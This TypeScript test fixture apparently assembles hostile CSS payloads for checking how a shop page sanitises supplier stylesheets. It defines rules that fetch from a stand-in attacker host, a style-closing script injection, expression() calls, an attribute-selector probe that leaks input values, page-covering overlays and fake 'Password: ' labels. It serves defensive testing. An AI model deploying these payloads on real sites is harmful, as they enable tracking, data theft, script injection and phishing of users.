/** Hostile CSS: rules that fetch, run code, cover the page, or move it away. */
import { EVIL } from "./html.ts"

const FETCHING = [
  `url(${EVIL}/p.gif)`,
  `URL("${EVIL}/p.gif")`,
  `u\\72l(${EVIL}/p.gif)`,
  `url(//evil.test/p.gif)`,
  `image-set("${EVIL}/p.gif" 1x)`,
  `-webkit-image-set(url(${EVIL}/p.gif) 1x)`,
  `cross-fade(url(${EVIL}/p.gif), url(${EVIL}/q.gif), 50%)`,
  `var(--missing, url(${EVIL}/p.gif))`,
] as const
const PROPERTIES = [
  "background",
  "background-image",
  "list-style-image",
  "border-image",
  "cursor",
  "--color-x",
] as const

/** Every property with every URL, each on a paragraph of its own, so that none overrides another. */
const fetching = PROPERTIES.flatMap((property) => FETCHING.map((value) => `{${property}:${value}}`)).map(
  (declarations, at) => `main p:nth-of-type(${at + 1})${declarations}`,
)

/** Only the first rules of a sheet may import. */
const importing = [
  `@import "${EVIL}/x.css";`,
  `@import url(${EVIL}/x.css) screen;`,
  `@\\69mport "${EVIL}/x.css";`,
  `@namespace url(${EVIL});`,
]

const nesting = [
  `@font-face{font-family:x;src:url(${EVIL}/x.woff2)}main h1{font-family:x}`,
  `@media all{@import "${EVIL}/x.css";main h1{background:url(${EVIL}/p.gif)}}`,
  `@supports (color:red){body{background:url(${EVIL}/p.gif)}}`,
  `@layer x{html{background:url(${EVIL}/p.gif)}}`,
  `@scope (main){:scope{background:url(${EVIL}/p.gif)}}`,
  `@container (width > 0){footer{background:url(${EVIL}/p.gif)}}`,
  `header{&{background:url(${EVIL}/p.gif)}}`,
  `input:not([value^=a]){background:url(${EVIL}/?a)}`,
  `#root{behavior:url(${EVIL}/x.htc);-moz-binding:url(${EVIL}/x.xml#a);width:expression(alert(1))}`,
]

const closing = `</style><script>window.__HIT__('ran')</script>`

/** Rules that would cover the page, or remove it. */
const covering = [
  "header,main,footer{position:fixed;inset:0;z-index:99999;background:red}",
  "p{position:absolute!important;inset:0;z-index:2147483647;background:red}",
  "body::before{content:'x';position:fixed;inset:0;background:red}",
  "body::before{content:'x';display:block;height:100vh;background:red}",
  "footer{outline:9999px solid red}",
  "footer{box-shadow:0 0 0 9999px red}",
  "footer{margin-top:-9999px;background:red}",
  "footer{transform:translateY(-3000px) scale(20);background:red}",
  "footer{translate:0 -3000px;scale:20}",
  "body{display:none}",
  "main{visibility:hidden}",
  "main{opacity:0}",
  "header{pointer-events:none}",
  "main{clip-path:inset(100%)}",
  "html{filter:opacity(0)}",
  "main{font-size:900px}",
  "main{padding-top:5000px}",
  "main{padding-top:calc(100vh * 9)}",
  "main{border:3000px solid red}",
  "main{line-height:999}",
  "main{height:0;overflow:hidden}",
  "header{order:9;float:right;width:0}",
  ":root{--header-height:9000px;--bottom-bar:9000px}",
  "*{animation:x 1s infinite}@keyframes x{to{transform:scale(90)}}",
  "main{padding-top:var(--supplier-x)}:root{--supplier-x:9999px}",
  "main{padding-top:1e4px}",
]

/** Rules that would overwrite the shop's own texts, or hide its controls. */
const misleading = [
  `ul,ol{list-style-type:"Password: "}`,
  `:root{--supplier-x:"Password: "}ul,ol{list-style-type:var(--supplier-x)}`,
  `li::marker{content:"Password: "}`,
  "main button,main a{color:transparent;background-color:rgb(0 0 0 / 0)}",
  "button{opacity:0}",
  "*{color:transparent!important;background-color:#ff000001!important}",
  ":root{--color-ink:transparent;--color-action:#0000}",
  "p,a,button{letter-spacing:-4em;line-height:0}",
]

export const misleadingSheet = misleading.join("\n")

export const cssPayloads = fetching.length + importing.length + nesting.length + covering.length + misleading.length + 1

/** Number of paragraphs a page must have for all of them to match. */
export const PARAGRAPHS = fetching.length

/** Enough sheets that no two rules setting the same property of the same element share one. */
const COVERING_SHEETS = 5

/** Sheets as the backend would send them. */
export const hostileSheets: ReadonlyArray<string> = [
  [...importing, ...fetching, ...nesting].join("\n"),
  ...Array.from({ length: COVERING_SHEETS }, (_, sheet) =>
    covering.filter((_payload, at) => at % COVERING_SHEETS === sheet).join("\n"),
  ),
  closing,
]
